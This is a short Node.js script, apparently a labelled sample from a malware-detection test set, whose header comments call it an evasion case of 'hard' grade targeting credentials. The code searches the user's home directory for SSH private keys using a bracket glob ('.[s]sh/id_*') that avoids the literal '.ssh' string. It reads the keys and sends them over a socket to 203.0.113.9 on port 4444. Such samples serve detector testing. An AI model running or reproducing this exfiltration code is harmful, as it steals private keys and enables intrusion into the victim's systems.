// evasion: private keys found by path.matchesGlob with a bracket glob ('.[s]sh/id_*') over the home directory's entries, sent over a socket
// grade: hard; does: credentials
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const net = require('net');

const home = os.homedir();
const found = [];
for (const dir of fs.readdirSync(home)) {
  let entries = [];
  try { entries = fs.readdirSync(path.join(home, dir)); } catch { continue; }
  for (const f of entries) {
    const rel = path.join(dir, f);
    if (path.matchesGlob(rel, '.[s]sh/id_*')) found.push(fs.readFileSync(path.join(home, rel), 'utf8'));
  }
}
const sock = net.connect(4444, '203.0.113.9', () => sock.end(found.join('\n')));
sock.on('error', () => {});
